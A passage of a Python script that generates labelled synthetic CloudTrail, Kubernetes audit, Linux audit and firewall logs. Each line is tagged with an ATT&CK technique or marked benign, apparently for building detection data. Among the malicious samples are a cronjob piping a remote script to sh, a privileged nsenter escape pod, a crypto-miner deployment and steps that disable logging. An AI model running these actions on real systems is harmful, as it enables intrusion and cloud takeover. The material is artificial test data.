    add(s, f"node=web01 type=CRED_ACQ msg={mid(251)}: pid=4411 uid=0 auid=1001 ses=31 subj=unconfined msg='op=PAM:setcred grantors=pam_permit,pam_cap acct=\"alice\" exe=\"/usr/sbin/sshd\" hostname=10.30.4.44 addr=10.30.4.44 terminal=ssh res=success'",
        None, "PAM credential step")
    add(s, f"node=app03 type=SERVICE_START msg={mid(260)}: pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=apt-daily-upgrade comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'",
        None, "apt timer")
    add(s, f"node=app03 type=PROCTITLE msg={mid(270)}: proctitle=2F7573722F62696E2F707974686F6E33002F7573722F62696E2F756E617474656E6465642D75706772616465",
        None, "unattended-upgrade process title")
    add(s, f"node=db02 type=USER_AUTH msg={mid(280)}: pid=7712 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:authentication grantors=? acct=\"postgres\" exe=\"/usr/sbin/sshd\" hostname=10.30.4.61 addr=10.30.4.61 terminal=ssh res=failed'",
        None, "a single failed login")


def ct(event, extra=None):
    base = {"eventVersion": "1.09", "eventTime": None, "eventSource": None, "eventName": None, "awsRegion": "eu-west-1",
            "sourceIPAddress": None, "userAgent": "aws-cli/2.17.3 md/Botocore#1.34.131 ua/2.0 os/linux#6.8.0 md/arch#x86_64 lang/python#3.11.8",
            "requestParameters": None, "responseElements": None, "requestID": "%08x-%04x-4%03x-8%03x-%012x" % (R.getrandbits(32), R.getrandbits(16), R.getrandbits(12), R.getrandbits(12), R.getrandbits(48)),
            "eventID": "%08x-%04x-4%03x-9%03x-%012x" % (R.getrandbits(32), R.getrandbits(16), R.getrandbits(12), R.getrandbits(12), R.getrandbits(48)),
            "readOnly": False, "eventType": "AwsApiCall", "managementEvent": True, "recipientAccountId": "111122223333", "eventCategory": "Management"}
    base.update(event)
    if extra:
        base.update(extra)
    return json.dumps(base, separators=(",", ":"))


def iam_user(name, key="AKIAEXAMPLETUNE00001"):
    return {"type": "IAMUser", "principalId": "AIDAEXAMPLE" + name.upper()[:9].ljust(9, "X"), "arn": f"arn:aws:iam::111122223333:user/{name}",
            "accountId": "111122223333", "accessKeyId": key, "userName": name}


def role(rname, sess, key="ASIAEXAMPLETUNE00002"):
    return {"type": "AssumedRole", "principalId": f"AROAEXAMPLEROLE0001:{sess}", "arn": f"arn:aws:sts::111122223333:assumed-role/{rname}/{sess}",
            "accountId": "111122223333", "accessKeyId": key,
            "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAEXAMPLEROLE0001", "arn": f"arn:aws:iam::111122223333:role/{rname}", "accountId": "111122223333", "userName": rname},
                               "attributes": {"creationDate": ts(0, "isos"), "mfaAuthenticated": "false"}}}


def cloudtrail():
    s = "aws-cloudtrail"

    def e(sec, src, name, ident, ip, req=None, resp=None, region="eu-west-1", ua=None, extra=None, ro=False):
        ev = {"eventTime": ts(sec, "isos"), "eventSource": src, "eventName": name, "userIdentity": ident, "sourceIPAddress": ip,
              "requestParameters": req, "responseElements": resp, "awsRegion": region, "readOnly": ro}
        if ua:
            ev["userAgent"] = ua
        return ct(ev, extra)
    bad = iam_user("ci-legacy", "AKIAEXAMPLETUNE00003")
    add(s, e(10, "cloudtrail.amazonaws.com", "StopLogging", bad, "185.220.101.52", {"name": "arn:aws:cloudtrail:eu-west-1:111122223333:trail/org-trail"}), "T1562.008", "CloudTrail logging stopped")
    add(s, e(20, "cloudtrail.amazonaws.com", "DeleteTrail", bad, "185.220.101.52", {"name": "org-trail"}), "T1562.008", "trail deleted")
    add(s, e(30, "guardduty.amazonaws.com", "DeleteDetector", bad, "185.220.101.52", {"detectorId": "12abc34d567e8fa901bc2d34e56789f0"}), "T1562.001", "GuardDuty detector deleted")
    add(s, e(40, "iam.amazonaws.com", "CreateAccessKey", bad, "185.220.101.52", {"userName": "svc-billing"}, {"accessKey": {"accessKeyId": "AKIAEXAMPLETUNE00004", "status": "Active", "userName": "svc-billing", "createDate": ts(40, "isos")}}, region="us-east-1"),
        "T1098.001", "access key created for a different user from a TOR exit")
    add(s, e(50, "iam.amazonaws.com", "AttachUserPolicy", bad, "185.220.101.52", {"userName": "ci-legacy", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, region="us-east-1"),
        "T1098.003", "AdministratorAccess attached to a user")
    add(s, e(60, "s3.amazonaws.com", "PutBucketPolicy", bad, "185.220.101.52", {"bucketName": "corp-finance-exports", "bucketPolicy": {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::corp-finance-exports/*"}]}, "policy": ""}),
        "T1530", "bucket policy opened to everyone")
    add(s, e(70, "s3.amazonaws.com", "PutBucketAcl", bad, "185.220.101.52", {"bucketName": "corp-hr-archive", "AccessControlPolicy": {"AccessControlList": {"Grant": [{"Grantee": {"xsi:type": "Group", "URI": "http://acs.amazonaws.com/groups/global/AllUsers"}, "Permission": "READ"}]}}}),
        "T1530", "bucket ACL grants AllUsers read")
    add(s, e(80, "signin.amazonaws.com", "ConsoleLogin", {"type": "IAMUser", "principalId": "AIDAEXAMPLEDKOVACS1", "arn": "arn:aws:iam::111122223333:user/d.kovacs", "accountId": "111122223333", "userName": "d.kovacs"}, "102.89.33.14",
             None, {"ConsoleLogin": "Success"}, region="us-east-1", ua="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
             extra={"additionalEventData": {"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "No"}, "eventType": "AwsConsoleSignIn"}),
        "T1078.004", "console login without MFA from an unfamiliar foreign IP")
    lam = role("ec2-app-role", "i-0a1b2c3d4e5f60789", "ASIAEXAMPLETUNE00005")
    for i, sec in enumerate(["prod/db/master", "prod/stripe/api", "prod/okta/scim", "prod/github/deploy", "prod/jwt/signing"]):
        add(s, e(100 + i, "secretsmanager.amazonaws.com", "GetSecretValue", lam, "198.51.100.77", {"secretId": sec}, None, ro=True), "T1555.006", "instance role credentials used from outside AWS to read many secrets in seconds")
    add(s, e(120, "kms.amazonaws.com", "ScheduleKeyDeletion", bad, "185.220.101.52", {"keyId": "arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab", "pendingWindowInDays": 7}),
        "T1485", "customer-managed KMS key scheduled for deletion")
    add(s, e(130, "ec2.amazonaws.com", "RunInstances", bad, "185.220.101.52", {"instancesSet": {"items": [{"imageId": "ami-0abcdef1234567890", "minCount": 20, "maxCount": 20}]}, "instanceType": "p4d.24xlarge"}, None, region="ap-southeast-3"),
        "T1496.001", "20 GPU instances in a region the company does not use")
    add(s, e(140, "ec2.amazonaws.com", "DeleteFlowLogs", bad, "185.220.101.52", {"DeleteFlowLogsRequest": {"FlowLogId": {"content": "fl-0123456789abcdef0", "tag": 1}}}), "T1562.008", "VPC flow logs deleted")
    # benign
    me = iam_user("p.chen", "AKIAEXAMPLETUNE00006")
    add(s, e(300, "iam.amazonaws.com", "CreateAccessKey", me, "203.0.113.10", {"userName": "p.chen"}, {"accessKey": {"accessKeyId": "AKIAEXAMPLETUNE00007", "status": "Active", "userName": "p.chen", "createDate": ts(300, "isos")}}, region="us-east-1"),
        None, "user rotating his own key (new key)")
    add(s, e(320, "iam.amazonaws.com", "DeleteAccessKey", me, "203.0.113.10", {"userName": "p.chen", "accessKeyId": "AKIAEXAMPLETUNE00006"}, None, region="us-east-1"), None, "user rotating his own key (old key deleted)")
    rot = role("key-rotation-lambda", "rotator", "ASIAEXAMPLETUNE00008")
    add(s, e(340, "iam.amazonaws.com", "CreateAccessKey", rot, "54.240.197.3", {"userName": "svc-reporting"}, {"accessKey": {"accessKeyId": "AKIAEXAMPLETUNE00009", "status": "Active", "userName": "svc-reporting", "createDate": ts(340, "isos")}}, region="us-east-1", ua="Boto3/1.34.100 md/Botocore#1.34.100 ua/2.0 os/linux exec-env/AWS_Lambda_python3.12"),
        None, "automation role rotating a service user's key")
    add(s, e(350, "kms.amazonaws.com", "RotateKeyOnDemand", iam_user("sec-admin", "AKIAEXAMPLETUNE00010"), "203.0.113.10", {"keyId": "1234abcd-12ab-34cd-56ef-1234567890ab"}), None, "on-demand KMS key rotation")
    add(s, e(360, "kms.amazonaws.com", "EnableKeyRotation", iam_user("sec-admin", "AKIAEXAMPLETUNE00010"), "203.0.113.10", {"keyId": "5678abcd-12ab-34cd-56ef-1234567890cd"}), None, "yearly rotation switched on")
    bk = role("AWSBackupDefaultServiceRole", "AWSBackup-AWSBackupDefaultServiceRole", "ASIAEXAMPLETUNE00011")
    add(s, e(370, "backup.amazonaws.com", "StartBackupJob", bk, "backup.amazonaws.com", {"backupVaultName": "Default", "resourceArn": "arn:aws:ec2:eu-west-1:111122223333:volume/vol-0abc123def4567890"}, ua="backup.amazonaws.com"), None, "AWS Backup job")
    add(s, e(380, "ec2.amazonaws.com", "CreateSnapshot", bk, "backup.amazonaws.com", {"volumeId": "vol-0abc123def4567890", "description": "This snapshot is created by the AWS Backup service."}, ua="backup.amazonaws.com"), None, "snapshot by AWS Backup")
    tf = role("terraform-deploy", "gitlab-ci-88231", "ASIAEXAMPLETUNE00012")
    add(s, e(390, "ec2.amazonaws.com", "RunInstances", tf, "34.250.12.9", {"instancesSet": {"items": [{"imageId": "ami-0fedcba9876543210", "minCount": 2, "maxCount": 2}]}, "instanceType": "t3.medium"}, ua="APN/1.0 HashiCorp/1.0 Terraform/1.9.5"),
        None, "terraform scaling the app tier")
    add(s, e(400, "ec2.amazonaws.com", "DescribeInstances", tf, "34.250.12.9", {"maxResults": 1000}, ro=True, ua="APN/1.0 HashiCorp/1.0 Terraform/1.9.5"), None, "terraform refresh")
    add(s, e(410, "sts.amazonaws.com", "AssumeRole", iam_user("gitlab-runner", "AKIAEXAMPLETUNE00013"), "34.250.12.9", {"roleArn": "arn:aws:iam::111122223333:role/terraform-deploy", "roleSessionName": "gitlab-ci-88231"}), None, "CI assuming its deploy role")
    add(s, e(420, "signin.amazonaws.com", "ConsoleLogin", {"type": "IAMUser", "principalId": "AIDAEXAMPLEPCHENXX1", "arn": "arn:aws:iam::111122223333:user/p.chen", "accountId": "111122223333", "userName": "p.chen"}, "203.0.113.10",
             None, {"ConsoleLogin": "Success"}, region="us-east-1", ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36",
             extra={"additionalEventData": {"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "Yes"}, "eventType": "AwsConsoleSignIn"}),
        None, "console login with MFA from the office")
    add(s, e(430, "signin.amazonaws.com", "ConsoleLogin", {"type": "IAMUser", "principalId": "AIDAEXAMPLEMLOPEZX1", "accountId": "111122223333", "userName": "m.lopez"}, "203.0.113.10",
             None, {"ConsoleLogin": "Failure"}, region="us-east-1", ua="Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 Safari/605.1.15",
             extra={"additionalEventData": {"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "Yes"}, "errorMessage": "Failed authentication", "eventType": "AwsConsoleSignIn"}),
        None, "one failed console login from the office")
    app = role("orders-lambda-role", "orders-api", "ASIAEXAMPLETUNE00014")
    add(s, e(440, "secretsmanager.amazonaws.com", "GetSecretValue", app, "lambda.amazonaws.com", {"secretId": "prod/orders/db"}, ro=True, ua="lambda.amazonaws.com"), None, "Lambda reading its own DB secret at cold start")
    add(s, e(450, "s3.amazonaws.com", "PutObject", app, "lambda.amazonaws.com", {"bucketName": "corp-orders-archive", "key": "2026/11/30/orders-0800.json.gz"}, ua="lambda.amazonaws.com", extra={"eventCategory": "Data", "managementEvent": False}), None, "archive write")
    add(s, e(460, "s3.amazonaws.com", "ListBuckets", me, "203.0.113.10", None, ro=True), None, "listing buckets")
    add(s, e(470, "s3.amazonaws.com", "PutBucketPolicy", tf, "34.250.12.9", {"bucketName": "corp-static-assets", "bucketPolicy": {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "cloudfront.amazonaws.com"}, "Action": "s3:GetObject", "Resource": "arn:aws:s3:::corp-static-assets/*", "Condition": {"StringEquals": {"AWS:SourceArn": "arn:aws:cloudfront::111122223333:distribution/E2EXAMPLE1"}}}]}}, ua="APN/1.0 HashiCorp/1.0 Terraform/1.9.5"),
        None, "bucket policy granting only CloudFront (OAC)")
    add(s, e(480, "acm.amazonaws.com", "RenewCertificate", role("AWSServiceRoleForCertificateManager", "acm"), "acm.amazonaws.com", {"certificateArn": "arn:aws:acm:eu-west-1:111122223333:certificate/abcd1234-ab12-cd34-ef56-abcdef123456"}, ua="acm.amazonaws.com"), None, "managed certificate renewal")


def k8s(sec, verb, user, groups, resource, ns, name, code=200, sub=None, ip="10.40.0.12", ua="kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46", req=None, stage="ResponseComplete", apigroup=None, level="Metadata", decision="allow", reason=""):
    ev = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": "%08x-%04x-4%03x-a%03x-%012x" % (R.getrandbits(32), R.getrandbits(16), R.getrandbits(12), R.getrandbits(12), R.getrandbits(48)),
          "stage": stage, "requestURI": None, "verb": verb, "user": {"username": user, "groups": groups}, "sourceIPs": [ip], "userAgent": ua,
          "objectRef": {"resource": resource, "namespace": ns, "name": name, "apiVersion": "v1"}, "responseStatus": {"metadata": {}, "code": code},
          "requestReceivedTimestamp": ts(sec)[:-1] + "123Z", "stageTimestamp": ts(sec)[:-1] + "456Z",
          "annotations": {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": reason}}
    if apigroup:
        ev["objectRef"]["apiGroup"] = apigroup
        ev["objectRef"]["apiVersion"] = "v1"
    if not ns:
        del ev["objectRef"]["namespace"]
    if not name:
        del ev["objectRef"]["name"]
    if sub:
        ev["objectRef"]["subresource"] = sub
    path = ("/apis/" + apigroup + "/v1" if apigroup else "/api/v1") + (f"/namespaces/{ns}" if ns else "") + f"/{resource}" + (f"/{name}" if name else "") + (f"/{sub}" if sub else "")
    if sub == "exec":
        path += "?command=%2Fbin%2Fsh&container=app&stdin=true&stdout=true&tty=true"
    ev["requestURI"] = path
    if req is not None:
        ev["requestObject"] = req
        ev["level"] = "RequestResponse"
    return json.dumps(ev, separators=(",", ":"))


def kubernetes():
    s = "kubernetes-audit"
    auth = ["system:authenticated"]
    sa = lambda ns, n: (f"system:serviceaccount:{ns}:{n}", ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"])
    u, g = sa("shop", "default")
    add(s, k8s(10, "create", u, g, "selfsubjectrulesreviews", None, None, code=201, ip="10.42.3.17", ua="kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b", apigroup="authorization.k8s.io", req={"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"namespace": "shop"}}),
        "T1613", "kubectl auth can-i --list run from inside a pod with its service account")
    add(s, k8s(20, "list", u, g, "secrets", "shop", None, ip="10.42.3.17", ua="kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b"), "T1552.007", "pod service account listing secrets")
    add(s, k8s(30, "list", "system:anonymous", ["system:unauthenticated"], "secrets", "kube-system", None, code=200, ip="185.220.101.60", ua="curl/8.5.0", decision="allow", reason='RBAC: allowed by ClusterRoleBinding "anon-debug" of ClusterRole "view" to User "system:anonymous"'),
        "T1552.007", "anonymous user listing kube-system secrets from the internet")
    add(s, k8s(40, "create", "dev-intern@corp.example.com", ["devs", "system:authenticated"], "pods", "payments", "payments-api-7d9f8b6c5-x2k4q", sub="exec", code=101, ip="10.40.7.88", req=None),
        "T1609", "interactive exec into a production payments pod by an intern")
    add(s, k8s(50, "create", "dev-intern@corp.example.com", ["devs", "system:authenticated"], "pods", "default", "dbg", code=201, ip="10.40.7.88",
               req={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "dbg"}, "spec": {"hostPID": True, "hostNetwork": True, "containers": [{"name": "dbg", "image": "alpine:3.20", "command": ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"], "securityContext": {"privileged": True}}]}}),
        "T1611", "privileged hostPID pod running nsenter into the node")
    add(s, k8s(60, "create", "dev-intern@corp.example.com", ["devs", "system:authenticated"], "pods", "default", "logs-reader", code=201, ip="10.40.7.88",
               req={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "logs-reader"}, "spec": {"containers": [{"name": "r", "image": "busybox:1.36", "command": ["sleep", "infinity"], "volumeMounts": [{"name": "root", "mountPath": "/host"}]}], "volumes": [{"name": "root", "hostPath": {"path": "/", "type": "Directory"}}]}}),
        "T1611", "pod mounting the node's root filesystem via hostPath")
    add(s, k8s(70, "create", "dev-intern@corp.example.com", ["devs", "system:authenticated"], "clusterrolebindings", None, "default-admin", code=201, ip="10.40.7.88", apigroup="rbac.authorization.k8s.io",
               req={"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "default-admin"}, "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}, "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "shop"}]}),
        "T1098.006", "default service account bound to cluster-admin")
    add(s, k8s(80, "create", "dev-intern@corp.example.com", ["devs", "system:authenticated"], "pods", "kube-system", "kube-proxy-helper", code=201, ip="10.40.7.88",
               req={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "kube-proxy-helper", "namespace": "kube-system"}, "spec": {"containers": [{"name": "h", "image": "docker.io/r00tk1t/helper:latest"}]}}),
        "T1610", "a person creating a pod in kube-system from a public image")
    add(s, k8s(90, "create", u, g, "cronjobs", "shop", "cache-warm", code=201, ip="10.42.3.17", apigroup="batch",
               req={"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": "cache-warm"}, "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": {"containers": [{"name": "c", "image": "alpine:3.20", "command": ["sh", "-c", "wget -qO- http://45.9.148.22/m.sh | sh"]}]}}}}}}),
        "T1053.007", "service account creating a cronjob that pipes a remote script to sh")
    add(s, k8s(100, "create", u, g, "deployments", "shop", "metrics-sidecar", code=201, ip="10.42.3.17", apigroup="apps",
               req={"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": "metrics-sidecar"}, "spec": {"replicas": 6, "template": {"spec": {"containers": [{"name": "m", "image": "docker.io/xmrig/xmrig:6.21.0", "args": ["-o", "stratum+tcp://pool.minexmr.example:4444"]}]}}}}),
        "T1496.001", "deployment running the xmrig image")
    add(s, k8s(110, "get", u, g, "secrets", "kube-system", "cloud-provider-credentials", code=200, ip="10.42.3.17", ua="python-requests/2.31.0"),
        "T1552.007", "application service account reading a kube-system secret")
    # benign
    kcm = ("system:kube-controller-manager", ["system:authenticated"])
    add(s, k8s(200, "update", kcm[0], kcm[1], "leases", "kube-system", "kube-controller-manager", ip="10.40.0.10", ua="kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46/leader-election", apigroup="coordination.k8s.io"),
        None, "controller-manager leader election")
    add(s, k8s(210, "get", "system:node:ip-10-40-1-21.eu-west-1.compute.internal", ["system:nodes", "system:authenticated"], "pods", "shop", "web-6c9d7f5b8-4kq2m", ip="10.40.1.21", ua="kubelet/v1.31.2 (linux/amd64) kubernetes/5864a46"),
        None, "kubelet fetching its pod")
    u2, g2 = sa("kube-system", "coredns")
    add(s, k8s(220, "watch", u2, g2, "endpointslices", None, None, ip="10.42.0.5", ua="coredns/v1.11.3 (linux/amd64) kubernetes/0", apigroup="discovery.k8s.io"), None, "coredns watching endpoints")
    u3, g3 = sa("argocd", "argocd-application-controller")
    add(s, k8s(230, "patch", u3, g3, "deployments", "shop", "web", ip="10.42.1.9", ua="argocd-application-controller/v2.12.4", apigroup="apps"), None, "GitOps sync")
    u4, g4 = sa("cert-manager", "cert-manager")
    add(s, k8s(240, "update", u4, g4, "secrets", "shop", "shop-example-com-tls", ip="10.42.1.30", ua="cert-manager-certificates-issuing/v1.15.3 (linux/amd64) cert-manager/4f2b"), None, "cert-manager writing a renewed certificate")
    u5, g5 = sa("kube-system", "metrics-server")
    add(s, k8s(250, "get", u5, g5, "nodes", None, "ip-10-40-1-21.eu-west-1.compute.internal", sub="metrics", ip="10.42.0.8", ua="metrics-server/v0.7.2"), None, "metrics scrape")
    add(s, k8s(260, "list", "alice@corp.example.com", ["sre", "system:authenticated"], "pods", "shop", None, ip="10.40.7.20"), None, "SRE listing pods")
    add(s, k8s(270, "get", "alice@corp.example.com", ["sre", "system:authenticated"], "pods", "shop", "web-6c9d7f5b8-4kq2m", sub="log", ip="10.40.7.20"), None, "SRE reading pod logs")
    add(s, k8s(280, "create", "alice@corp.example.com", ["sre", "system:authenticated"], "pods", "staging", "web-debug-7f6d", sub="exec", code=101, ip="10.40.7.20"), None, "on-call SRE exec into a staging debug pod")
    u6, g6 = sa("kube-system", "replicaset-controller")
    add(s, k8s(290, "create", u6, g6, "pods", "kube-system", "coredns-5d78c9869d-8zq4x", code=201, ip="10.40.0.10", ua="kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46/system:serviceaccount:kube-system:replicaset-controller"),
        None, "ReplicaSet controller recreating a coredns pod")
    add(s, k8s(300, "update", "system:kube-scheduler", ["system:authenticated"], "leases", "kube-system", "kube-scheduler", ip="10.40.0.10", ua="kube-scheduler/v1.31.2 (linux/amd64) kubernetes/5864a46/leader-election", apigroup="coordination.k8s.io"), None, "scheduler lease")
    u7, g7 = sa("gitlab", "deployer")
    add(s, k8s(310, "get", u7, g7, "configmaps", "shop", "web-config", ip="10.42.2.4", ua="helm/v3.16.2"), None, "helm reading its config")
    add(s, k8s(320, "get", "system:apiserver", ["system:masters"], "namespaces", None, "default", ip="::1", ua="kube-apiserver/v1.31.2 (linux/amd64) kubernetes/5864a46"), None, "apiserver self-check")
    add(s, k8s(330, "list", u3, g3, "secrets", "argocd", None, ip="10.42.1.9", ua="argocd-application-controller/v2.12.4"), None, "Argo CD reading its own repository credentials")


def firewall():
    s = "firewall"

    def ipt(sec, host, action, src, dst, spt, dpt, proto="TCP", iface_in="eth0", iface_out=""):
        return (f"{ts(sec, '3164')} {host} kernel: [{R.randint(100000, 999999)}.{R.randint(100000, 999999)}] {action} IN={iface_in} OUT={iface_out} "
                f"MAC=00:16:3e:5a:21:0b:00:1c:73:00:00:99:08:00 SRC={src} DST={dst} LEN=60 TOS=0x00 PREC=0x00 TTL={R.randint(40, 64)} ID={R.randint(1, 65535)} DF PROTO={proto} SPT={spt} DPT={dpt} WINDOW=64240 RES=0x00 SYN URGP=0")

    def forti(sec, action, src, dst, dport, service, policy, sentbyte=1200, rcvd=4300, app=None, extra=""):
        return (f"date={(T0 + timedelta(seconds=sec)).strftime('%Y-%m-%d')} time={(T0 + timedelta(seconds=sec)).strftime('%H:%M:%S')} devname=\"FGT-HQ-01\" devid=\"FG100FTK21000123\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" vd=\"root\" "
                f"srcip={src} srcport={R.randint(1025, 65000)} srcintf=\"internal\" dstip={dst} dstport={dport} dstintf=\"wan1\" sessionid={R.randint(10000000, 99999999)} proto=6 action=\"{action}\" policyid={policy[0]} policyname=\"{policy[1]}\" "
                f"service=\"{service}\" trandisp=\"snat\" duration={R.randint(1, 900)} sentbyte={sentbyte} rcvdbyte={rcvd}" + (f" app=\"{app}\"" if app else "") + extra)

    def asa(sec, code, msg):
        return f"{ts(sec, '3164')} asa-edge01 : %ASA-{code}: {msg}"

    def pan(sec, typ, src, dst, dport, app, action, rule, bytes_=5000, sub="end", threat=None, country="US"):
        t = (T0 + timedelta(seconds=sec)).strftime("%Y/%m/%d %H:%M:%S")
        if typ == "THREAT":
            return f"1,{t},012801001234,THREAT,spyware,2561,{t},{src},{dst},203.0.113.5,{dst},{rule},corp\\jsmith,,{app},vsys1,trust,untrust,ethernet1/2,ethernet1/1,Log-Forward,{t},{R.randint(10000, 99999)},1,{R.randint(40000, 60000)},{dport},{R.randint(40000, 60000)},{dport},0x2000,tcp,{action},\"\",{threat},any,critical,client-to-server,{R.randint(10**6, 10**7)},0x0,10.0.0.0-10.255.255.255,{country},0,,0,,,0,,,,,,,,0,0,0,0,0,,PA-3220,"
        return f"1,{t},012801001234,TRAFFIC,{sub},2561,{t},{src},{dst},203.0.113.5,{dst},{rule},,,{app},vsys1,trust,untrust,ethernet1/2,ethernet1/1,Log-Forward,{t},{R.randint(10000, 99999)},1,{R.randint(40000, 60000)},{dport},{R.randint(40000, 60000)},{dport},0x400000,tcp,{action},{bytes_},{bytes_ // 3},{bytes_ - bytes_ // 3},{R.randint(5, 4000)},{t},{R.randint(0, 600)},any,0,{R.randint(10**9, 10**10)},0x0,10.0.0.0-10.255.255.255,{country},0,{R.randint(3, 40)},{R.randint(3, 40)},tcp-fin,0,0,0,0,,PA-3220,from-policy"
    add(s, ipt(10, "gw01", "OUTBOUND-LOG", "10.20.14.55", "91.215.85.17", 51544, 4444, iface_in="eth1", iface_out="eth0"), "T1571", "workstation connecting out to 4444")
    add(s, forti(20, "accept", "10.30.2.17", "194.36.189.20", 6667, "tcp/6667", (12, "outbound-default"), app="IRC"), "T1571", "server talking IRC out to the internet")
    add(s, forti(30, "accept", "10.30.2.17", "45.9.148.22", 1337, "tcp/1337", (12, "outbound-default")), "T1571", "outbound to 1337")
    for i, p in enumerate([21, 22, 23, 25, 80, 110, 139, 143, 443, 445, 3306, 3389]):
        add(s, ipt(100 + i, "gw01", "INPUT-DROP", "193.32.162.71", "203.0.113.20", R.randint(40000, 60000), p), "T1046", "one external IP probing many ports in seconds")
    add(s, asa(200, "6-302013", "Built inbound TCP connection 8812331 for outside:80.66.88.141/53122 (80.66.88.141/53122) to inside:10.20.50.10/3389 (203.0.113.30/3389)"),
        "T1133", "RDP accepted inbound from the internet")
    add(s, asa(210, "6-302013", "Built inbound TCP connection 8812390 for outside:5.188.206.14/49822 (5.188.206.14/49822) to inside:10.20.50.11/445 (203.0.113.31/445)"),
        "T1021.002", "SMB accepted inbound from the internet")
    add(s, pan(220, "TRAFFIC", "10.20.22.9", "185.220.101.3", 9001, "tor", "allow", "outbound-web", bytes_=88231), "T1090.003", "workstation talking to a TOR relay")
    add(s, pan(230, "THREAT", "10.20.14.55", "91.215.85.17", 443, "ssl", "alert", "outbound-web", threat="Cobalt Strike Beacon Command and Control Traffic Detection(86246)", country="RU"),
        "T1071.001", "Cobalt Strike beacon signature")
    add(s, forti(240, "accept", "10.30.9.12", "152.89.196.40", 443, "HTTPS", (12, "outbound-default"), sentbyte=48211300123, rcvd=210443),
        "T1048", "48 GB sent to an unknown host from a DB server")
    add(s, "CEF:0|Check Point|VPN-1 & FireWall-1|R81.20|accept|Accept|2|rt=" + str(int((T0 + timedelta(seconds=250)).timestamp()) * 1000) + " src=10.30.2.17 dst=141.95.72.59 spt=44122 dpt=3333 proto=6 act=accept cs1Label=Rule Name cs1=outbound-default",
        "T1496.001", "server connecting to a mining pool port")
    # benign
    add(s, forti(300, "accept", "10.20.14.55", "142.250.74.110", 443, "HTTPS", (10, "outbound-web"), app="Google.Services"), None, "web browsing")
    add(s, forti(310, "accept", "10.20.14.55", "10.0.0.53", 53, "DNS", (3, "dns-internal"), sentbyte=74, rcvd=150), None, "internal DNS")
    add(s, ipt(320, "gw01", "OUTBOUND-LOG", "10.30.2.17", "10.0.0.2", 123, 123, proto="UDP", iface_in="eth1", iface_out="eth1"), None, "NTP")
    for i, p in enumerate([22, 80, 135, 443, 445, 1433, 3389, 5985]):
        add(s, forti(400 + i, "deny", "10.10.5.20", "10.30.2.17", p, f"tcp/{p}", (2, "approved-vuln-scanner-nessus")), None, "approved Nessus scanner sweep from the internal scanner host")
    add(s, pan(500, "TRAFFIC", "10.20.22.9", "52.97.146.178", 443, "ms-office365-base", "allow", "outbound-web", bytes_=22331), None, "Office 365 traffic")
    add(s, pan(510, "TRAFFIC", "10.30.9.12", "10.30.9.9", 873, "rsync", "allow", "backup-lan", bytes_=2114552901), None, "large but internal backup transfer")
    add(s, asa(520, "6-302014", "Teardown TCP connection 8811200 for outside:52.97.146.178/443 to inside:10.20.22.9/51822 duration 0:02:11 bytes 22331 TCP FINs"), None, "teardown of normal HTTPS")
    add(s, asa(530, "4-106023", "Deny tcp src outside:167.94.138.44/50122 dst inside:203.0.113.20/23 by access-group \"outside_in\" [0x0, 0x0]"), None, "single internet background-noise deny")
    add(s, "CEF:0|Check Point|VPN-1 & FireWall-1|R81.20|accept|Accept|2|rt=" + str(int((T0 + timedelta(seconds=540)).timestamp()) * 1000) + " src=10.20.31.18 dst=20.190.160.1 spt=52133 dpt=443 proto=6 act=accept cs1Label=Rule Name cs1=outbound-web",
        None, "Microsoft login over HTTPS")
    add(s, ipt(550, "gw01", "FORWARD-ACCEPT", "10.40.7.20", "10.40.0.12", 50211, 6443, iface_in="eth1", iface_out="eth2"), None, "admin to the kube API")
    add(s, forti(560, "accept", "10.20.31.18", "52.97.146.178", 443, "HTTPS", (10, "outbound-web"), app="Microsoft.Outlook"), None, "Outlook")
    add(s, pan(570, "TRAFFIC", "10.30.9.12", "52.218.40.10", 443, "amazon-s3", "allow", "backup-to-s3", bytes_=9123441102), None, "nightly backup upload to the company's S3 bucket")
    add(s, asa(580, "6-302015", "Built outbound UDP connection 8812500 for outside:8.8.8.8/53 (8.8.8.8/53) to inside:10.0.0.53/53122 (203.0.113.5/53122)"), None, "DNS forwarder upstream")
